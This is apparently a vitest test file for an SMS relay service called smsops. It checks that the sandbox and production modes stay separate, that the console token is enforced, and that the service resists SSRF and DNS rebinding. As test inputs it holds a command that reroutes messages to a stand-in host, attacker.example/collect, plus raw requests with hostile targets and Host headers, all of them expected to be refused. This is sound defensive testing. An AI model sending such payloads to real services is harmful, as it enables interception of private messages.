import { existsSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { createServer } from 'node:http';
import { type AddressInfo, connect } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import Database from 'better-sqlite3';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { closeDatabase, openDatabase } from '../../src/store/database.js';
import { postOnce } from '../helpers/hostileClients.js';
import { freePort, inboundWebhookBody, productionEnv, type SmsopsProcess, spawnSmsops } from '../helpers/smsopsProcess.js';

/**
 * The sandbox only on purpose, checked on the real process: a deployment whose secrets did not arrive is a
 * configuration error, never a silent sandbox; the sandbox never opens a production database (nor production a
 * sandbox one); off loopback its console wants the token printed at start.
 */

const SECRET = 'whsec_test_0123456789abcdefghijkl';
let dir: string;
const running: SmsopsProcess[] = [];

beforeEach(() => {
  dir = mkdtempSync(join(tmpdir(), 'smsops-sandbox-safety-'));
});

afterEach(() => {
  for (const p of running.splice(0)) p.kill();
  rmSync(dir, { recursive: true, force: true });
});

function start(env: Record<string, string>): SmsopsProcess {
  const p = spawnSmsops({ cwd: dir, env });
  running.push(p);
  return p;
}

const stderrOf = (p: SmsopsProcess) =>
  p.logs
    .filter((l) => l.startsWith('[stderr] '))
    .map((l) => l.slice(9))
    .join('\n');

const pendingDeliveries = (path: string) => {
  const db = new Database(path, { readonly: true });
  try {
    return db.prepare<[], { n: number }>("SELECT count(*) AS n FROM deliveries WHERE status != 'delivered'").get()?.n;
  } finally {
    db.close();
  }
};

/** A production database as a deployment leaves it: a message taken in, its Slack delivery still pending. */
async function productionDatabaseWithPendingDelivery(path: string): Promise<void> {
  const port = await freePort();
  const prod = start(productionEnv({ port, databasePath: path, webhookSecret: SECRET }));
  await prod.waitForLine(/smsops listening/);
  const answer = await postOnce(`http://127.0.0.1:${port}/webhooks/wavix/inbound/${SECRET}`, inboundWebhookBody('prod-1'));
  expect(answer.status).toBe(200);
  prod.child.kill('SIGTERM');
  expect((await prod.exited).code, prod.logs.join('\n')).toBe(0);
}

describe('a deployment without its secrets', () => {
  it('with only DATABASE_PATH set is a configuration error naming the missing credentials (exit 2), not the sandbox', async () => {
    const path = join(dir, 'prod.db');
    const p = start({ DATABASE_PATH: path, HOST: '0.0.0.0' });
    expect((await p.exited).code).toBe(2);
    const stderr = stderrOf(p);
    for (const name of ['SLACK_BOT_TOKEN', 'WAVIX_API_KEY', 'SLACK_ALERT_CHANNEL']) expect(stderr).toContain(name);
    expect(stderr).toContain('SMSOPS_SANDBOX=1');
    expect(p.logs.join('\n')).not.toContain('sandbox mode');
    expect(existsSync(path)).toBe(false);
  }, 30_000);
});

describe('a .env file', () => {
  it('means smsops is configured here: with the credentials missing from it, exit 2 naming them, not the sandbox', async () => {
    writeFileSync(join(dir, '.env'), '# copied from .env.example, not filled in yet\nSLACK_BOT_TOKEN=\n');
    const p = start({ SMSOPS_SANDBOX_PORT: '0' });
    expect((await p.exited).code).toBe(2);
    expect(stderrOf(p)).toContain('WAVIX_API_KEY');
    expect(p.logs.join('\n')).not.toContain('sandbox mode');
  }, 30_000);
});

describe('the sandbox and a production database', () => {
  it('refuses a database production smsops created (exit 2, naming the file and what to do) and touches nothing in it', async () => {
    const path = join(dir, 'prod.db');
    await productionDatabaseWithPendingDelivery(path);
    const before = pendingDeliveries(path);
    expect(before).toBeGreaterThan(0);

    const sandbox = start({ SMSOPS_SANDBOX: '1', DATABASE_PATH: path, SMSOPS_SANDBOX_PORT: '0' });
    expect((await sandbox.exited).code).toBe(2);
    const stderr = stderrOf(sandbox);
    expect(stderr).toContain(path);
    expect(stderr).toMatch(/production mode/);
    expect(stderr).toMatch(/unset DATABASE_PATH/);
    expect(sandbox.logs.join('\n')).not.toContain('sandbox mode: nothing reaches');
    expect(pendingDeliveries(path)).toBe(before);
  }, 60_000);

  it('refuses a database of unknown mode (made before the mark existed), which production adopts', async () => {
    const path = join(dir, 'old.db');
    closeDatabase(openDatabase(path).db);

    const sandbox = start({ SMSOPS_SANDBOX: '1', DATABASE_PATH: path, SMSOPS_SANDBOX_PORT: '0' });
    expect((await sandbox.exited).code).toBe(2);
    expect(stderrOf(sandbox)).toContain(path);

    const port = await freePort();
    const prod = start(productionEnv({ port, databasePath: path, webhookSecret: SECRET }));
    await prod.waitForLine(/smsops listening/);
    prod.child.kill('SIGTERM');
    expect((await prod.exited).code).toBe(0);
  }, 60_000);

  it('production refuses a database the sandbox created', async () => {
    const path = join(dir, 'sandbox.db');
    const sandbox = start({ SMSOPS_SANDBOX: '1', DATABASE_PATH: path, SMSOPS_SANDBOX_PORT: '0' });
    await sandbox.waitForLine(/sandbox mode: nothing reaches/);
    sandbox.child.kill('SIGTERM');
    expect((await sandbox.exited).code).toBe(0);

    const prod = start(productionEnv({ port: await freePort(), databasePath: path, webhookSecret: SECRET }));
    expect((await prod.exited).code).toBe(2);
    const stderr = stderrOf(prod);
    expect(stderr).toContain(path);
    expect(stderr).toMatch(/belongs to the sandbox/);
  }, 60_000);
});

describe('the sandbox console off loopback', () => {
  it('wants the token printed at start: without it 401 and nothing stored; ?token= once, then a cookie', async () => {
    const path = join(dir, 'sandbox.db');
    // The network stays on loopback: the address is 127.0.0.1 and the token path is forced. HOST is production's and
    // is ignored by the sandbox.
    const sandbox = start({
      SMSOPS_SANDBOX: '1',
      SMSOPS_SANDBOX_HOST: '127.0.0.1',
      SMSOPS_SANDBOX_REQUIRE_TOKEN: '1',
      SMSOPS_SANDBOX_PORT: '0',
      HOST: '0.0.0.0',
      DATABASE_PATH: path,
    });
    const line = await sandbox.waitForLine(/sandbox running: open http:\/\/127\.0\.0\.1:\d+\/sandbox\?token=/);
    const consoleUrl = /(http:\/\/\S+\/sandbox)\?token=(\S+)/.exec(line);
    const base = consoleUrl?.[1] ?? '';
    const token = consoleUrl?.[2] ?? '';
    expect(token.length).toBeGreaterThanOrEqual(24);
    expect(sandbox.logs.filter((l) => !l.startsWith('[stderr]')).join('\n')).not.toContain(token);
    expect(sandbox.logs.join('\n')).toContain('"listening":"127.0.0.1:');

    const attack = { text: '/sms route set default http://attacker.example/collect' };
    const post = (headers: Record<string, string>) =>
      fetch(`${base}/api/command`, {
        method: 'POST',
        headers: { 'content-type': 'application/json', ...headers },
        body: JSON.stringify(attack),
      });
    expect((await post({})).status).toBe(401);
    expect((await post({ cookie: 'smsops_sandbox=wrong' })).status).toBe(401);
    expect((await post({ authorization: `Bearer ${token}x` })).status).toBe(401);
    expect((await fetch(base)).status).toBe(401);
    expect((await fetch(`${base}/api/state`)).status).toBe(401);

    const swap = await fetch(`${base}?token=${token}`, { redirect: 'manual' });
    expect(swap.status).toBe(303);
    expect(swap.headers.get('location')).toBe('/sandbox');
    const setCookie = swap.headers.get('set-cookie') ?? '';
    expect(setCookie).toMatch(/HttpOnly/);
    expect(setCookie).toMatch(/SameSite=Strict/);
    const cookie = setCookie.split(';')[0] ?? '';
    const page = await fetch(base, { headers: { cookie } });
    expect(page.status).toBe(200);
    expect(await page.text()).toContain('SANDBOX');
    expect((await fetch(`${base}/api/state`, { headers: { cookie } })).status).toBe(200);
    expect((await fetch(`${base}/api/state`, { headers: { authorization: `Bearer ${token}` } })).status).toBe(200);

    sandbox.child.kill('SIGTERM');
    expect((await sandbox.exited).code).toBe(0);
    const db = new Database(path, { readonly: true });
    try {
      expect(db.prepare('SELECT count(*) AS n FROM routes').get()).toEqual({ n: 0 });
    } finally {
      db.close();
    }
  }, 60_000);
});

describe('the sandbox front port', () => {
  it('passes requests only to its own smsops: an absolute-form or `//host` request target reaches no other server', async () => {
    // A server standing for anything else on the machine or network (a metadata service, an admin port).
    let reached = 0;
    const other = createServer((_req, res) => {
      reached += 1;
      res.end('internal secret page');
    });
    await new Promise<void>((resolve) => other.listen(0, '127.0.0.1', resolve));
    const otherPort = (other.address() as AddressInfo).port;
    try {
      const sandbox = start({
        SMSOPS_SANDBOX: '1',
        SMSOPS_SANDBOX_HOST: '127.0.0.1',
        SMSOPS_SANDBOX_REQUIRE_TOKEN: '1',
        SMSOPS_SANDBOX_PORT: '0',
        DATABASE_PATH: join(dir, 'sandbox.db'),
      });
      const line = await sandbox.waitForLine(/"listening":"127\.0\.0\.1:\d+"/);
      const port = Number(/"listening":"127\.0\.0\.1:(\d+)"/.exec(line)?.[1]);
      for (const target of [`http://127.0.0.1:${otherPort}/`, `//127.0.0.1:${otherPort}/`, `//127.0.0.1:${otherPort}/healthz`]) {
        const answer = await rawRequest(port, `GET ${target} HTTP/1.1\r\nHost: 127.0.0.1\r\nConnection: close\r\n\r\n`);
        expect(answer, target).not.toContain('internal secret page');
      }
      expect(reached).toBe(0);
      // Its own smsops still answers through the front port.
      expect(await rawRequest(port, 'GET /healthz HTTP/1.1\r\nHost: 127.0.0.1\r\nConnection: close\r\n\r\n')).toMatch(
        /^HTTP\/1\.1 (200|503)/,
      );
    } finally {
      await new Promise<void>((resolve) => other.close(() => resolve()));
    }
  }, 60_000);
});

describe('the sandbox console on loopback (no token)', () => {
  it('answers only requests addressed to a loopback name: a page that rebinds its own name to 127.0.0.1 gets 403', async () => {
    const sandbox = start({ SMSOPS_SANDBOX: '1', SMSOPS_SANDBOX_PORT: '0', DATABASE_PATH: join(dir, 'sandbox.db') });
    const line = await sandbox.waitForLine(/"listening":"127\.0\.0\.1:\d+"/);
    const port = Number(/"listening":"127\.0\.0\.1:(\d+)"/.exec(line)?.[1]);
    const command = JSON.stringify({ text: '/sms route set default http://attacker.example/collect' });
    const post = (host: string) =>
      rawRequest(
        port,
        `POST /sandbox/api/command HTTP/1.1\r\nHost: ${host}\r\nContent-Type: application/json\r\nContent-Length: ${command.length}\r\nConnection: close\r\n\r\n${command}`,
      );
    expect(await post('attacker.example')).toMatch(/^HTTP\/1\.1 403/);
    expect(await post(`attacker.example:${port}`)).toMatch(/^HTTP\/1\.1 403/);
    const state = (host: string) =>
      rawRequest(port, `GET /sandbox/api/state HTTP/1.1\r\nHost: ${host}\r\nConnection: close\r\n\r\n`);
    expect(await state('attacker.example')).toMatch(/^HTTP\/1\.1 403/);
    for (const host of [`localhost:${port}`, `127.0.0.1:${port}`, `[::1]:${port}`]) {
      expect(await state(host), host).toMatch(/^HTTP\/1\.1 200/);
    }
  }, 60_000);
});

/** One request written as given (a request target fetch() would never send), the raw answer back. */
function rawRequest(port: number, request: string): Promise<string> {
  return new Promise((resolve, reject) => {
    const socket = connect(port, '127.0.0.1', () => socket.write(request));
    let answer = '';
    socket.setEncoding('utf8');
    socket.on('data', (chunk) => {
      answer += chunk;
    });
    socket.on('end', () => resolve(answer));
    socket.on('error', reject);
    socket.setTimeout(10_000, () => {
      socket.destroy();
      resolve(answer);
    });
  });
}
